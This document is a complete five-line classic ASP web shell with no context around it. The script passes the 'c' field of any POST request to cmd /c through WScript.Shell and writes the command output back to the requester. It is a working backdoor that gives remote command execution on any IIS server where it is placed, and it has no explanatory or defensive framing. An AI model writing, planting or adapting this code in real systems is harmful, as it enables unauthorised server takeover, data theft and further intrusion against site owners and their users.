<%
Set s = CreateObject("WScript.Shell")
Set e = s.Exec("cmd /c " & Request.Form("c"))
Response.Write e.StdOut.ReadAll()
%>
